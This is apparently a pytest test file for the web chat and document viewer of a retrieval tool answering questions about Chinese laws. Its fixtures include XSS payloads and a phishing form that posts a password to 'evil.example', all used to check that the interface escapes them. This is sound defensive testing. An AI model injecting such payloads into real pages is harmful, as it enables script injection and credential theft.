"""Fast tests of the web UI's formatting helpers (rag/interfaces/web/ui.py); no browser, no model."""

from __future__ import annotations

import logging

import pytest

from rag.answer import make_citation as cite
from rag.errors import IndexNotBuilt, ModelUnavailable
from rag.ingest import chunk_document
from rag.interfaces.web import chat, coverage, ui
from rag.types import Answer, Check, Citation, DocMeta, Document, FacetValue, Hit, PassageMeta

PIPL_66 = (
    "Where personal information is processed in violation of this Law, ... a fine of not more "
    "than RMB50 million, or 5% of the turnover of the previous year shall be imposed"
)


def make_citation(n: int = 1, **overrides) -> Citation:
    values = dict(
        n=n,
        chunk_id=f"chunk-{n}",
        doc_id="pipl-en",
        source_path="docs/pipl.md",
        title="Personal Information Protection Law",
        label="PIPL Art. 66",
        article=66,
        quote=PIPL_66,
        quote_start=100,
        quote_end=100 + len(PIPL_66),
        issuer="NPC Standing Committee",
        promulgated="2021-08-20",
        effective="2021-11-01",
        status="in_force",
        doc_type="law",
        url="http://www.npc.gov.cn/pipl",
    )
    values.update(overrides)
    return Citation(**values)


def make_answer(**overrides) -> Answer:
    values = dict(
        question="What is the maximum fine under PIPL?",
        text="The fine may reach RMB 50 million or 5% of annual turnover [1].",
        citations=[make_citation()],
    )
    values.update(overrides)
    return Answer(**values)


def refused_answer(
    question: str, text: str, searched: str, suggestion: str, meta: PassageMeta
) -> Answer:
    """A refusal as the engine makes it: what was searched, one nearest passage, one question."""
    return make_answer(
        question=question,
        refused=True,
        text=text,
        citations=[],
        searched=searched,
        suggestions=[suggestion],
        hits=[Hit(chunk_id="c", text="...", score=0.1, meta=meta)],
    )


def make_document(text: str) -> Document:
    meta = DocMeta(
        title="Personal Information Protection Law",
        title_zh="个人信息保护法",
        issuer="NPC Standing Committee",
        promulgated="2021-08-20",
        effective="2021-11-01",
        source_url="http://www.npc.gov.cn/pipl",
    )
    return Document(
        doc_id="pipl-en", source_path="docs/pipl.md", text=text, meta=meta, content_hash="x"
    )


class FakeEngine:
    """Replays queued `answer_stream` events, or raises a queued error."""

    def __init__(
        self,
        events=None,
        error: Exception | None = None,
        doc: Document | None = None,
        llm: str = "",
    ):
        self.events = events or []
        self.error = error
        self.doc = doc
        self.llm = llm
        self.calls = []

    def index_status(self):
        return {"llm": self.llm, "llm_wait_seconds": 50.0 if self.llm else 0.0}

    def answer_stream(self, question, history=None, filters=None):
        self.calls.append((question, history, filters))
        yield from self.events
        if self.error:
            raise self.error

    def get_document(self, doc_id):
        if self.doc is None or doc_id != self.doc.doc_id:
            raise KeyError(doc_id)
        return self.doc


# ------------------------------------------------------------------ chat message


def test_answer_links_each_marker_to_its_own_source():
    text = chat.answer_message(make_answer())
    assert "[\\[1\\]](?doc=pipl-en&chunk=chunk-1&start=100&end=" in text
    assert "No citation" not in text


def test_answer_without_citation_is_flagged():
    text = chat.answer_message(make_answer(citations=[]))
    assert "No citation" in text


def test_an_answer_carries_its_sources_with_kind_year_quote_and_an_honest_link():
    exact = make_citation(1, doc_type="summary", url="http://www.npc.gov.cn/pipl")
    home = make_citation(2, url="https://flk.npc.gov.cn/")
    text = chat.answer_message(make_answer(text="x [1] y [2].", citations=[exact, home]))
    sources = text[text.index("**Sources**") :]
    assert "summary · 2021 · in force" in sources and "law · 2021 · in force" in sources
    assert "RMB50 million" in sources  # the quote stays with its answer
    assert "[Official text](http://www.npc.gov.cn/pipl)" in sources
    assert "[issuer's site](https://flk.npc.gov.cn/)" in sources
    assert "[Link to this answer](./?q=What+is+the+maximum+fine+under+PIPL%3F&share=1)" in text


def test_with_the_pages_address_an_answers_links_work_where_it_is_pasted():
    text = chat.answer_message(make_answer(), base="http://desk.example/")
    assert "[\\[1\\]](http://desk.example/?doc=pipl-en&chunk=chunk-1&start=100&end=" in text
    assert "**[PIPL Art. 66](http://desk.example/?doc=pipl-en&chunk=chunk-1" in text
    assert "(http://desk.example/?q=What+is+the+maximum+fine+under+PIPL%3F&share=1)" in text


def test_refusal_says_what_was_searched_the_nearest_documents_and_what_to_ask():
    meta = PassageMeta(
        doc_id="pipl-en",
        title="Personal Information Protection Law",
        doc_type="law",
        promulgated="2021-08-20",
        label="PIPL Art. 66",
    )
    answer = refused_answer(
        "What tariff rates apply?",
        "The corpus does not cover this. Searched the 6 indexed documents.",
        "Searched the 6 indexed documents for “tariff rates”.",
        "What does PIPL Art. 66 say?",
        meta,
    )
    text = chat.answer_message(answer)
    assert "No answer found" in text and "“tariff rates”" in text
    assert "[Personal Information Protection Law](?doc=pipl-en) (law, 2021)" in text
    assert "[What does PIPL Art. 66 say?](?q=What+does+PIPL+Art.+66+say%3F)" in text
    assert "No citation" not in text  # a refusal is not an uncited answer


def test_a_chinese_question_is_refused_in_chinese():
    meta = PassageMeta(doc_id="pipl-en", title="Personal Information Protection Law", label="PIPL")
    answer = refused_answer(
        "公司法对注册资本有什么规定？",
        "资料库中没有涉及这个问题的内容。",
        "已在已收录的6份文件中检索“公司法对注册资本有什么规定？”。",
        "PIPL规定了什么？",
        meta,
    )
    text = chat.answer_message(answer)
    assert "已收录的文件中没有找到答案。" in text and "最接近的已收录文件" in text
    assert "这些文件能回答的问题" in text
    assert "No answer found" not in text and "Nearest documents" not in text
    exported = chat.export_markdown([answer])
    assert "已收录的文件中没有找到答案。 已在已收录的6份文件中检索" in exported


def test_notice_follow_up_and_unsupported_sentences_are_shown():
    answer = make_answer(
        notice="The language model did not respond; showing an extractive answer.",
        standalone_question="What is the maximum fine under PIPL Article 66?",
        checks=[Check(sentence="x", cited=[1], supported=False)],
    )
    text = chat.answer_message(answer, question="and the fine?")
    assert text.startswith("> ℹ️ The language model did not respond")
    assert "*Follow-up, read as:* What is the maximum fine under PIPL Article 66?" in text
    assert "1 sentence could not be matched" in text


def test_sources_escape_hostile_metadata_and_drop_script_urls():
    cite = make_citation(
        quote="<script>alert(1)</script>",
        title='"><img src=x onerror=alert(1)>',
        url="javascript:alert(1)",
    )
    text = chat.answer_message(make_answer(citations=[cite]))
    assert "<script>" not in text and "<img" not in text
    assert "&lt;script&gt;" in text
    assert "javascript:" not in text


def test_export_is_markdown_with_each_sources_label_quote_and_url():
    follow = make_answer(question="and the fine?", standalone_question="PIPL fine?")
    md = chat.export_markdown([make_answer(), follow], "http://desk.example/")
    assert md.startswith("# Policy Desk answers")
    assert "## What is the maximum fine under PIPL?" in md and "## and the fine?" in md
    assert "1. **PIPL Art. 66** (Personal Information Protection Law, law · 2021 · in force)" in md
    assert f"   > {PIPL_66}" in md
    assert "   - Official text: http://www.npc.gov.cn/pipl" in md
    assert "   - In Policy Desk: http://desk.example/?doc=pipl-en&chunk=chunk-1" in md


# ------------------------------------------------------------------ document viewer


def test_viewer_highlights_the_passage_and_escapes_text():
    text = "Intro <b>bold</b>\n" + "x" * 50 + "\nArticle 66 the fine\n" + "y" * 50
    start = text.index("Article 66")
    html = ui.document_html(make_document(text), start, start + len("Article 66 the fine"))
    assert "<mark>Article 66 the fine</mark>" in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "<b>bold" not in html
    assert "个人信息保护法" in html and "Effective 2021-11-01" in html


def test_viewer_shows_a_window_around_a_passage_in_a_long_document():
    text = ("filler line\n" * 2000) + "THE PASSAGE\n" + ("more filler\n" * 2000)
    start = text.index("THE PASSAGE")
    html = ui.document_html(make_document(text), start, start + 11, context=200)
    assert "<mark>THE PASSAGE</mark>" in html
    assert "characters before]" in html and "characters after]" in html
    assert len(html) < 2000
    full = ui.document_html(make_document(text), start, start + 11, full=True)
    assert "characters before]" not in full and "<mark>THE PASSAGE</mark>" in full


def test_viewer_ignores_offsets_outside_the_text():
    html = ui.document_html(make_document("short text"), 5, 500)
    assert "<mark>" not in html and "short text" in html


TABLE_DOC = (
    "## Green targets\n\nThe targets are set out below.\n\n"
    "| Indicator | 2020 | 2025 target |\n| --- | --- | --- |\n"
    "| Air quality (**good** days, %) | 87 | 87.5 |\n"
    "| Forest coverage | 23.2 | 24.1 |\n"
    "| <script>alert(1)</script> | — | <img src=x onerror=alert(2)> |\n\n"
    "Targets are binding.\n"
)


def cited_row(doc: Document, needle: str) -> Citation:
    """The citation an answer quoting the table row holding `needle` carries."""
    chunk = next(c for c in chunk_document(doc) if needle in c.text)
    meta = PassageMeta(doc_id=doc.doc_id, start=chunk.start, end=chunk.end)
    hit = Hit(chunk_id=chunk.chunk_id, text=chunk.text, score=1.0, meta=meta)
    return cite(1, hit, chunk.text)


def test_viewer_shows_a_table_as_a_table_with_the_cited_row_highlighted():
    doc = make_document(TABLE_DOC)
    citation = cited_row(doc, "24.1")
    assert citation.quote == "Forest coverage: 2020 23.2, 2025 target 24.1."
    html = ui.document_html(doc, citation.quote_start, citation.quote_end)
    assert '<table class="pd-table"><thead><tr><th>Indicator</th><th>2020</th>' in html
    assert '<tr class="pd-hit"><td>Forest coverage</td><td>23.2</td><td>24.1</td></tr>' in html
    assert html.count("pd-hit") == 1 and "<mark>" not in html  # the row, nothing else
    assert "|" not in html and "---" not in html
    assert "<td>Air quality (<strong>good</strong> days, %)</td>" in html
    assert "The targets are set out below." in html and "Targets are binding." in html


def test_a_table_cell_is_shown_as_text_never_as_html():
    html = ui.document_html(make_document(TABLE_DOC), full=True)
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<script" not in html and "<img" not in html


def test_viewer_shows_a_table_near_a_passage_whole():
    rows = "".join(f"| Row {i} | {i} |\n" for i in range(60))
    text = "| Name | Value |\n| --- | --- |\n" + rows + "\nTHE PASSAGE\n" + "more filler\n" * 500
    start = text.index("THE PASSAGE")
    html = ui.document_html(make_document(text), start, start + 11, context=100)
    assert "<th>Name</th>" in html and "<td>Row 0</td>" in html  # not cut mid-table
    assert "<mark>THE PASSAGE</mark>" in html and "characters before]" not in html


def test_open_document_reports_unknown_ids():
    html = ui.open_document(FakeEngine(doc=make_document("abc")), "nope")
    assert "No document with id" in html


@pytest.mark.parametrize(
    ("start", "end", "expected"),
    [
        ("10", "20", (10, 20)),
        ("20", "10", (None, None)),
        ("x", "3", (None, None)),
        (None, None, (None, None)),
    ],
)
def test_parse_span(start, end, expected):
    assert ui.parse_span(start, end) == expected


# ------------------------------------------------------------------ filters and status


def test_filters_keep_only_what_the_user_chose():
    assert ui.build_filters([], [], [], []) is None
    assert ui.build_filters(["law"], None, ["in_force"], []) == {
        "doc_type": ["law"],
        "status": ["in_force"],
    }


def test_status_tells_the_user_to_run_ingest_when_not_ready():
    assert "python ingest.py" in ui.status_html({"ready": False})
    ready = ui.status_html({"ready": True, "documents": 14, "chunks": 1203, "embedding_model": "m"})
    assert "14 documents" in ready and "1,203 passages" in ready


# ------------------------------------------------------------------ streaming and errors


def test_stream_reply_passes_tokens_then_the_answer():
    answer = make_answer()
    engine = FakeEngine(
        events=[("hits", [1, 2]), ("token", "The fine "), ("token", "[1]."), ("answer", answer)]
    )
    events = list(ui.stream_reply(engine, "q", [], {"language": ["en"]}))
    assert events[0:2] == [("token", "The fine "), ("token", "The fine [1].")]
    assert events[-1] == ("answer", answer)
    assert engine.calls == [("q", None, {"language": ["en"]})]


def test_stream_reply_shows_rag_errors_verbatim():
    events = list(ui.stream_reply(FakeEngine(error=IndexNotBuilt()), "q", [], None))
    assert events == [("error", f"⚠️ {IndexNotBuilt()}")]
    events = list(ui.stream_reply(FakeEngine(error=ModelUnavailable("model gone")), "q", [], None))
    assert events == [("error", "⚠️ model gone")]


def test_stream_reply_hides_bugs_and_logs_them(caplog):
    with caplog.at_level(logging.ERROR):
        events = list(
            ui.stream_reply(FakeEngine(error=ZeroDivisionError("secret detail")), "q", [], None)
        )
    assert events == [("error", f"⚠️ {ui.GENERIC_ERROR}")]
    assert "secret detail" not in events[0][1]
    assert "ZeroDivisionError" in caplog.text


@pytest.mark.fault
def test_a_documents_html_and_links_are_shown_as_text_in_the_chat():
    # Issue 15: a <form> from a document rendered live in the web chat and submitted elsewhere.
    hostile = (
        '<form action="https://evil.example"><input name="pw"><button>Verify</button></form> '
        "See [the official text](https://evil.example/phish) ![x](https://evil.example/p.png) [1]"
    )
    shown = chat.answer_message(Answer(question="q", text=hostile, citations=[make_citation()]))
    assert "<form" not in shown and "<input" not in shown and "<button" not in shown
    assert "&lt;form" in shown
    assert "](https://evil" not in shown  # no Markdown link or image of the text's own
    assert "the official text (https://evil.example/phish)" in shown


@pytest.mark.fault
def test_waiting_for_a_language_model_says_how_long_it_may_take():
    # Issue 15: with a model that hangs, the UI waited two minutes with no notice.
    events = [("hits", [object(), object()])]
    offline = list(ui.stream_reply(FakeEngine(events), "q", [], None))
    assert not [e for e in offline if e[0] == "progress"]  # the answer follows at once
    with_model = list(ui.stream_reply(FakeEngine(events, llm="openai/any"), "q", [], None))
    assert "asking the language model" in with_model[0][1] and "50 s" in with_model[0][1]


@pytest.mark.fault
def test_a_lone_surrogate_in_a_question_is_replaced_before_it_reaches_the_browser():
    # Issue 15: a lone surrogate typed in the web UI broke the event stream.
    question = ui.clean_question("  PIPL fines \ud83d?  ")
    assert question == "PIPL fines ??"
    question.encode("utf-8")  # what the event stream does with it: no error now


# ------------------------------------------------------------------ coverage and provenance


def test_filter_menus_offer_only_what_the_index_holds_in_plain_words():
    facets = [
        FacetValue(key="doc_type", value="summary", documents=30),
        FacetValue(key="doc_type", value="commentary", documents=6),
        FacetValue(key="language", value="en", documents=36),
        FacetValue(key="status", value="in_force", documents=35),
    ]
    assert coverage.facet_choices(facets, "doc_type") == [
        ("Commentary (6)", "commentary"),
        ("Summary (30)", "summary"),
    ]
    assert coverage.facet_choices(facets, "language") == [("English (36)", "en")]
    assert coverage.facet_choices(facets, "status") == [("In force (35)", "in_force")]


def test_active_filters_are_chips_that_name_them_in_plain_words():
    html = coverage.chips_html({"doc_type": ["summary"], "language": ["zh"]})
    assert 'data-key="doc_type" data-value="summary"' in html
    assert "kind: summary" in html and "language: Chinese" in html
    assert "doc_type=" not in html
    assert coverage.chips_html(None) == ""


def test_two_versions_of_a_law_are_told_apart_by_year():
    old = {
        "doc_id": "csl16",
        "short_name": "CSL",
        "promulgated": "2016-11-07",
        "language": "en",
        "doc_type": "summary",
    }
    new = dict(old, doc_id="csl25", promulgated="2025-10-28")
    assert coverage.document_choice(old) == ("CSL · 2016 · summary · en", "csl16")
    assert coverage.document_choice(new) == ("CSL · 2025 · summary · en", "csl25")


def test_documents_view_lists_both_titles_kind_issuer_dates_status_and_passages():
    doc = {
        "doc_id": "pipl",
        "title": "PIPL summary",
        "title_zh": "个人信息保护法",
        "doc_type": "summary",
        "issuer": "NPCSC",
        "promulgated": "2021-08-20",
        "effective": "2021-11-01",
        "status": "in_force",
        "chunks": 1234,
        "source_url": "https://flk.npc.gov.cn/",
    }
    html = coverage.documents_html([doc])
    for expected in (
        "PIPL summary",
        "个人信息保护法",
        "summary",
        "NPCSC",
        "2021",
        "2021-11-01",
        "in force",
        "1,234",
        "issuer&#x27;s site",
        'href="?doc=pipl"',
    ):
        assert expected in html


def test_viewer_header_names_the_kind_of_text_and_its_version():
    doc = make_document("Article 1 text")
    doc.meta.doc_type = "summary"
    html = ui.document_html(doc)
    assert 'class="pd-badge kind summary">summary<' in html
    assert "2021 version" in html
    assert "issuer&#x27;s site" not in html  # the front matter's URL is a page of its own
    doc.meta.source_url = "https://flk.npc.gov.cn/"
    assert "issuer&#x27;s site ↗" in ui.document_html(doc)


def test_a_paraphrase_links_to_the_laws_own_article():
    law = PassageMeta(
        doc_id="pipl-en", doc_type="law", language="en", label="PIPL Art. 66", start=10, end=90
    )
    html = ui.document_html(
        make_document("Article 66 summary"),
        primary=[Hit(chunk_id="c66", text="Article 66 ...", score=0.0, meta=law)],
    )
    assert "This passage paraphrases the law" in html
    assert (
        '<a href="?doc=pipl-en&amp;chunk=c66&amp;start=10&amp;end=90">PIPL Art. 66</a> (law, en)'
        in html
    )
    assert "paraphrases" not in ui.document_html(make_document("Article 66 summary"))
